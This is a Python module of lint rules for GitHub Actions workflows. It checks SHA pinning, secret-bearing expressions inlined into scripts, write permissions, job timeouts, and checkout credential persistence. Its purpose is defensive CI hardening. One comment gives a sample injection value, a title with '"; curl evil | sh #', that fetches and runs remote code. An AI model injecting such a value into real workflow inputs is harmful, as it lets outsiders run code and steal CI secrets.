"""The per-file rules of `workflow-invariants`: pins, expressions in scripts, permissions, timeouts, checkout.

Each function takes one parsed file and returns findings ("path:line: what is wrong"), never raises.
"""

from __future__ import annotations

import re

from fleet.validate.workflows_files import ActionsFile, YamlMap, as_map

# `uses: owner/repo[/path]@<40 hex> # vX.Y.Z` (a comment with the version the SHA is, for humans and Dependabot).
USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*['\"]?(?P<ref>[^\s'\"#]+)['\"]?\s*(?:#\s*(?P<comment>.*))?$")
PINNED = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+(?:/[^@\s]+)?@(?P<sha>[0-9a-f]{40})$")
VERSION_COMMENT = re.compile(r"^v?\d+\.\d+\.\d+\b")
DOCKER_DIGEST = re.compile(r"^docker://[^@\s]+@sha256:[0-9a-f]{64}$")

# Contexts that carry secrets or text an outsider can choose. Inside a script they become code: a title such as
# `"; curl evil | sh #` runs. They must reach the script through `env:` and be quoted there as "$VAR".
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
FORBIDDEN_IN_SCRIPT = re.compile(
    r"\b(?:secrets\.|vars\.|inputs\.|github\.event\b|github\.head_ref\b|steps\.[\w-]+\.outputs|needs\.[\w-]+\.outputs)"
)
SCRIPT_ACTIONS = ("actions/github-script@",)  # actions whose `with.script` is code, like `run:`

READ_ONLY = {"read", "none"}


def _line_of(text: str, needle: str, start: int = 0) -> int:
    pos = text.find(needle, start)
    return text.count("\n", 0, pos) + 1 if pos >= 0 else 0


def _job_line(text: str, job_id: str) -> int:
    """The line of a job's key under `jobs:` (two-space or deeper indent), 0 when not found."""
    match = re.search(rf"^[ \t]+{re.escape(job_id)}:", text, re.MULTILINE)
    return text.count("\n", 0, match.start()) + 1 if match else 0


def pin_findings(f: ActionsFile) -> list[str]:
    """Every `uses:` is local, a docker image by digest, or owner/repo@<full SHA> with a `# vX.Y.Z` comment; one
    action at one SHA carries one version everywhere in the file."""
    errors: list[str] = []
    version_of: dict[str, tuple[str, int]] = {}
    for n, line in enumerate(f.text.splitlines(), start=1):
        match = USES_LINE.match(line)
        if not match:
            continue
        ref, comment = match["ref"], (match["comment"] or "").strip()
        if ref.startswith("./") or DOCKER_DIGEST.match(ref):
            continue
        pinned = PINNED.match(ref)
        if not pinned:
            errors.append(f"{f.rel}:{n}: `uses: {ref}` is not pinned to a full 40-hex commit SHA (a tag can move)")
            continue
        if not VERSION_COMMENT.match(comment):
            errors.append(f"{f.rel}:{n}: `uses: {ref}` needs a `# vX.Y.Z` comment naming the version of that SHA")
            continue
        version = comment.split()[0]
        seen = version_of.setdefault(ref, (version, n))
        if seen[0] != version:
            errors.append(f"{f.rel}:{n}: {ref} is called {version} here and {seen[0]} on line {seen[1]}")
    return errors


def _scripts(f: ActionsFile) -> list[tuple[str, str]]:
    """(where, code) for every `run:` and every github-script `script:` in the file."""
    found: list[tuple[str, str]] = []
    groups = [(job_id, f.steps(job)) for job_id, job in f.jobs()] if f.is_workflow else [("runs", f.steps())]
    for job_id, steps in groups:
        for i, step in enumerate(steps):
            where = f"{job_id}.steps[{i}]" + (f" ({step['name']})" if isinstance(step.get("name"), str) else "")
            if isinstance(step.get("run"), str):
                found.append((where, str(step["run"])))
            uses = str(step.get("uses", ""))
            script = as_map(step.get("with")).get("script")
            if uses.startswith(SCRIPT_ACTIONS) and isinstance(script, str):
                found.append((where, script))
    return found


def script_expression_findings(f: ActionsFile) -> list[str]:
    """No secret, variable, input, event field or step output is expanded into a script's text."""
    errors: list[str] = []
    for where, code in _scripts(f):
        # Search from the script's first line: the same expression often sits, legitimately, in an env: above it.
        first = code.strip().splitlines()[0] if code.strip() else ""
        start = max(f.text.find(first), 0)
        for expr in EXPRESSION.findall(code):
            if FORBIDDEN_IN_SCRIPT.search(expr):
                line = _line_of(f.text, "${{" + expr + "}}", start)
                errors.append(
                    f"{f.rel}:{line}: {where}: `${{{{{expr}}}}}` is expanded into the script; pass it through `env:` "
                    'and use "$VAR"'
                )
    return errors


def _writes(permissions: object) -> list[str]:
    if isinstance(permissions, str):
        return [] if permissions == "read-all" else [permissions]
    return [f"{scope}: {level}" for scope, level in as_map(permissions).items() if str(level) not in READ_ONLY]


def _assumes_aws_role(f: ActionsFile, job: YamlMap) -> bool:
    return any(
        str(s.get("uses", "")).startswith("aws-actions/configure-aws-credentials@")
        and "role-to-assume" in as_map(s.get("with"))
        for s in f.steps(job)
    )


def permission_findings(f: ActionsFile) -> list[str]:
    """A top-level `permissions:` that grants no write; `id-token: write` only on jobs that assume an AWS role."""
    if not f.is_workflow:
        return []
    errors: list[str] = []
    if "permissions" not in f.doc:
        errors.append(f"{f.rel}: no top-level `permissions:` (the default token may write): use `permissions: {{}}`")
    elif writes := _writes(f.doc["permissions"]):
        errors.append(f"{f.rel}: top-level permissions grant {', '.join(writes)}; grant writes per job instead")
    for job_id, job in f.jobs():
        if str(as_map(job.get("permissions")).get("id-token")) == "write" and not _assumes_aws_role(f, job):
            errors.append(
                f"{f.rel}:{_job_line(f.text, job_id)}: job {job_id} has id-token: write but assumes no AWS role"
            )
    return errors


def job_shape_findings(f: ActionsFile) -> list[str]:
    """Every job has timeout-minutes (a hung job otherwise runs 6 h); checkout never leaves the token on disk."""
    errors: list[str] = []
    jobs = list(f.jobs()) if f.is_workflow else [("runs", {})]
    for job_id, job in jobs:
        if f.is_workflow and "uses" not in job and "timeout-minutes" not in job:
            errors.append(f"{f.rel}:{_job_line(f.text, job_id)}: job {job_id} has no timeout-minutes")
        for i, step in enumerate(f.steps(job if f.is_workflow else None)):
            is_checkout = str(step.get("uses", "")).startswith("actions/checkout@")
            if is_checkout and as_map(step.get("with")).get("persist-credentials") is not False:
                errors.append(
                    f"{f.rel}: {job_id}.steps[{i}]: actions/checkout without `persist-credentials: false` "
                    "leaves the token in .git/config for every later step"
                )
    return errors


def file_findings(f: ActionsFile) -> list[str]:
    if f.problem:
        return [f"{f.rel}: {f.problem}"]
    return pin_findings(f) + script_expression_findings(f) + permission_findings(f) + job_shape_findings(f)
